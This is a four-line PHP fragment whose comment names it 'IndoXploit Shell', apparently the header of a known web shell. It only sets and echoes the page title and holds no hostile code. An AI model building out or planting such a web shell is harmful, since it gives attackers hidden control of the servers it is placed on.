<?php
/* IndoXploit Shell */
$title = "IndoXploit";
echo "<title>$title</title>";
